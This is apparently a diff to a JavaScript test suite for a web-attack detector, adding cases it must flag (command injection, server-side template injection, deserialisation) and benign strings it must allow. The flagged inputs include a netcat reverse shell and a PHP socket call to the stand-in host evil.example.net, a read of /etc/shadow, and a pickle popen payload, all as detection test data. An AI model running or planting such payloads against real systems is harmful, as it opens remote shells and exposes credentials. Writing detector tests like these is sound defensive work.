@@ -40,6 +40,19 @@ describe('CMDI_RULES', () => {
     recognises('cmdi', 'class.module.classLoader.resources.context.parent.pipeline.first.pattern');
     recognises('cmdi', 'powershell -enc SQBFAFgA');
     recognises('cmdi', 'cmd.exe /c dir');
+    recognises('cmdi', 'nc -e /bin/sh evil.example.net 4444');
+    recognises('cmdi', '$s=fsockopen("evil.example.net",4444)');
+    recognises('cmdi', 'cmd /k dir');
+    recognises('cmdi', '${pwd#?}');
+    recognises('cmdi', 'strings /etc/shadow');
+    recognises('cmdi', 'system  ("id")');
+    recognises('cmdi', 'os.execl("/bin/sh")');
+    recognises('cmdi', 'java.lang.System.exit(1)');
+    recognises('cmdi', 'auto_append_file=/tmp/x');
+    suspects('cmdi', 'ruby -rsocket -e "exit"');
+    suspects('cmdi', 'perl -MIO -e "exit"');
+    suspects('cmdi', 'java.rmi.Naming');
+    suspects('cmdi', 'strrev("x")');
   });
   it('allow prose, Markdown, tables and shopping', () => {
     allows('rock & roll; live');
@@ -57,6 +70,13 @@ describe('CMDI_RULES', () => {
     allows('ping pong table');
     allows('Python developer; Ruby developer');
     allows('cost: $5; ship fast');
+    allows('Charlotte, NC: the city-wide event');
+    allows('good food is a system (of sorts)');
+    allows('battery pack (of 4)');
+    doesNotAlert('Hello ${user:name}');
+    allows('if defined well, it works');
+    allows('more shoes etc. and type again');
+    allows('ruby ring -e size');
   });
 });
 
@@ -82,6 +102,11 @@ describe('SSTI_RULES', () => {
     recognises('ssti', '*{7*7}');
     recognises('ssti', "<%= system('id') %>");
     recognises('ssti', '{{_self.env.registerUndefinedFilterCallback("exec")}}');
+    recognises('ssti', '{9*9}');
+    recognises('ssti', 'T( java.lang.Runtime)');
+    recognises('ssti', "#parse('x.vm')");
+    recognises('ssti', '$x.class');
+    recognises('ssti', '{exec}');
   });
   it('allow placeholders', () => {
     allows('{{name}}');
@@ -90,6 +115,7 @@ describe('SSTI_RULES', () => {
     allows('{0} items');
     allows('50% {off}');
     allows('#1 {best}');
+    allows('{9} of {10} items');
   });
 });
 
@@ -104,6 +130,9 @@ describe('DESERIALISATION_RULES', () => {
     recognises('deserialisation', '{"@type":"com.sun.rowset.JdbcRowSetImpl"}');
     recognises('deserialisation', '!!javax.script.ScriptEngineManager [');
     recognises('deserialisation', '{"$type":"System.Windows.Data.ObjectDataProvider"}');
+    recognises('deserialisation', "cposix\npopen\n(S'id'\ntR.");
+    recognises('deserialisation', '\u00ac\u00ed\u0000\u0005sr');
+    recognises('deserialisation', '<tree-map><entry/></tree-map>');
   });
   it('only suspect an array, which sessions hold too', () => {
     suspects('deserialisation', 'a:1:{i:0;s:1:"a";}');
